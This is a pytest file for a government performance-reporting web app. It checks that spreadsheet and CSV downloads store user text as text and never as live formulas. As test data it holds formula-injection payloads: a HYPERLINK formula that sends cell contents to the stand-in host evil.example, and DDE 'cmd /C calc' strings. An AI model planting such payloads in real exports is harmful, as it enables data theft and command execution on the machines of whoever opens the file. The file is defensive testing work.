"""Issue 11 (spreadsheets): every user-supplied value goes into a spreadsheet as text. Hostile text
is stored in the fields that reach a sheet (indicator names and kinerja utama, SKM service names, the
office name); every .xlsx/.csv download found by walking url_map is opened and checked: no cell is a
formula, the hostile strings are there as text, numbers stay numbers, CSV cells that start with a
formula character start with "'"."""
from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa
from openpyxl import Workbook, load_workbook

from download_walk import build_world, downloads
from iku_workflow.extensions import db
from iku_workflow.models import Indicator, SurveyPeriod
from iku_workflow.reports import cells

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
HOSTILE = (HYPERLINK, AT, PLUS, MINUS)


def _poison(office) -> None:
    for n, indicator in enumerate(db.session.scalars(sa.select(Indicator).order_by(Indicator.id))):
        indicator.name = (HYPERLINK, MINUS)[n % 2]
        indicator.kinerja_utama = AT
    for period in db.session.scalars(sa.select(SurveyPeriod)):
        period.services[0].name = PLUS
    office.name = "=1+1"  # reaches the title lines ("… KECAMATAN =1+1"), not the start of a cell
    db.session.commit()


def _sheet_download(response) -> str | None:
    disposition = response.headers.get("Content-Disposition", "")
    for kind in ("xlsx", "csv"):
        if f".{kind}" in disposition or kind in response.mimetype:
            return kind
    return None


def test_every_spreadsheet_download_holds_text_not_formulas(app, office, client_as):
    build_world(client_as, office)
    _poison(office)
    checked, seen_hostile, numbers, csv_seen = {}, set(), 0, set()
    for endpoint, url, response in downloads(app, client_as):
        kind = _sheet_download(response)
        if kind is None:
            continue
        if kind == "xlsx":
            wb = load_workbook(io.BytesIO(response.data), data_only=False)
            count = 0
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    for cell in row:
                        if cell.value is None:
                            continue
                        count += 1
                        assert cell.data_type != "f", (url, ws.title, cell.coordinate, cell.value)
                        if isinstance(cell.value, str) and cell.value in HOSTILE:
                            assert cell.data_type == "s"
                            seen_hostile.add(cell.value)
                        if isinstance(cell.value, (int, float)):
                            assert cell.data_type == "n"
                            numbers += 1
            checked[url] = count
        else:
            rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
            for row in rows:
                for value in row:
                    assert not value.startswith(cells.FORMULA_START), (url, value)
                    if value.startswith("'") and value[1:] in HOSTILE:
                        csv_seen.add(value[1:])
            checked[url] = sum(len(r) for r in rows)
    sheets = {url.rsplit("/", 1)[-1].split("?")[0] for url in checked}
    # the walk reached every sheet the app writes (dashboard, capaian report, SKM export, both templates,
    # program template) and the hostile values in them
    assert {"excel", "ekspor.xlsx", "templat.xlsx", "templat.csv"} <= sheets, sheets
    assert any(u.endswith(".xlsx") and "/laporan/capaian/" in u for u in checked), checked
    assert seen_hostile == set(HOSTILE), seen_hostile
    assert csv_seen == {PLUS}
    assert numbers > 0
    print(f"spreadsheets checked: {len(checked)}, cells: {sum(checked.values())}")


def test_helpers_keep_numbers_and_mark_text():
    assert cells.csv_row(["=1+1", "+1", "-1", "@x", "\tx", "\rx", "Loket KTP", 5, -3, 2.5, None]) == [
        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "Loket KTP", 5, -3, 2.5, None]
    wb = Workbook()
    ws = wb.active
    ws.append(["=1+1", "#N/A", 3, 1.5, "teks"])
    cells.text_only(wb)
    assert [c.data_type for c in ws[1]] == ["s", "s", "n", "n", "s"]
    out = io.BytesIO()
    wb.save(out)
    back = load_workbook(io.BytesIO(out.getvalue())).active
    assert [c.value for c in back[1]] == ["=1+1", "#N/A", 3, 1.5, "teks"]
    assert [c.data_type for c in back[1]] == ["s", "s", "n", "n", "s"]


@pytest.mark.parametrize("write_only", [True, False])
def test_row_helper_on_write_only_sheets(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("x")
    ws.append(cells.row(ws, ["=1+1", 7, None, "ok"]))
    out = io.BytesIO()
    wb.save(out)
    back = load_workbook(io.BytesIO(out.getvalue()))["x"]
    assert [(c.value, c.data_type) for c in back[1]] == [("=1+1", "s"), (7, "n"), (None, "n"), ("ok", "s")]
